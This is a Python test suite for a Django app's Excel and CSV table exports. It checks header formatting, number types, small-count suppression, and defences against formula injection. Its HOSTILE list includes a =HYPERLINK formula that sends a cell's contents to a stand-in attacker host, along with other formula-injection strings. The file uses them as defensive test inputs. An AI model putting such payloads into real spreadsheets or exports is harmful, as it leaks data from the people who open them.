"""Tables as Excel workbooks (`core.figures.xlsx_response`): opened back with openpyxl, the header is
there, bold and frozen, numbers are numbers, a suppressed cell says so in words and never holds the
count behind it, and no text becomes a formula."""

import io

import openpyxl
from django.test import RequestFactory

from core.disclosure import Reason
from core.figures import XLSX_TYPE, Suppressed, Table, csv_response, download_or_none, xlsx_response

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
    "@SUM(1+1)",
    "+1+cmd",
    "-2+3",
    "\t=1+1",
]


def opened(content: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]


def table() -> Table:
    return Table(
        caption="Enrollments by race: 2026 [draft]",
        columns=["Group", "Enrollments", "Share (%)"],
        rows=[
            ["Black or African American", 12, 40.5],
            ["Asian", Suppressed(threshold=11, reason=Reason.SMALL), None],
            ["White", -3, 0],
            *[[name, 1, 2.5] for name in HOSTILE],
        ],
        slug="by-race",
    )


def test_a_table_opens_back_with_its_header_numbers_and_suppressed_cells_in_words():
    response = xlsx_response(table())
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="by-race.xlsx"'
    sheet = opened(response.content)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Group", "Enrollments", "Share (%)"]
    assert all(cell.font.b for cell in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.title == "Enrollments by race  2026  draf"  # a sheet's title: 31 characters, no [ ] :
    assert rows[1] == ["Black or African American", 12, 40.5]
    assert sheet["B2"].data_type == "n" and sheet["C2"].data_type == "n"
    assert rows[3] == ["White", -3, 0]
    # The suppressed cell is the CSV's words; the hidden count is nowhere in the sheet.
    csv_text = csv_response(table()).content.decode("utf-8-sig")
    assert rows[2][1] == str(Suppressed(threshold=11, reason=Reason.SMALL)) and rows[2][1] in csv_text
    assert rows[2][2] is None
    assert sheet.column_dimensions["A"].width >= len("Black or African American")


def test_no_text_becomes_a_formula_and_names_stay_as_they_are():
    sheet = opened(xlsx_response(table()).content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[0].value for row in sheet.iter_rows(min_row=5)]
    assert names == HOSTILE  # as typed: a workbook's text cell is no formula, so no quote is added
    assert sheet["A5"].quotePrefix  # and stays text when someone edits the cell in Excel


def test_a_page_serves_the_table_asked_for_as_csv_or_excel():
    factory = RequestFactory()
    other = Table(caption="Other", columns=["a"], rows=[[1]])
    assert download_or_none(factory.get("/", {"download": "somewhere"}), table(), other) is None
    csv_download = download_or_none(factory.get("/", {"download": "by-race"}), other, table())
    assert csv_download["Content-Type"].startswith("text/csv")
    xlsx_download = download_or_none(factory.get("/", {"download": "other.xlsx"}), table(), other)
    assert xlsx_download["Content-Type"] == XLSX_TYPE
    assert [[cell.value for cell in row] for row in opened(xlsx_download.content).iter_rows()] == [["a"], [1]]


def test_a_figure_written_as_text_is_a_number_but_a_code_or_signed_text_stays_text():
    written = Table(caption="Codes", columns=["a", "b", "c", "d"], rows=[["3.67", "01001", "-3", "12 %"]])
    sheet = opened(xlsx_response(written).content)
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        (3.67, "n"),
        ("01001", "s"),
        ("-3", "s"),  # text in the CSV too ("'-3"): never a number made of text
        ("12 %", "s"),
    ]
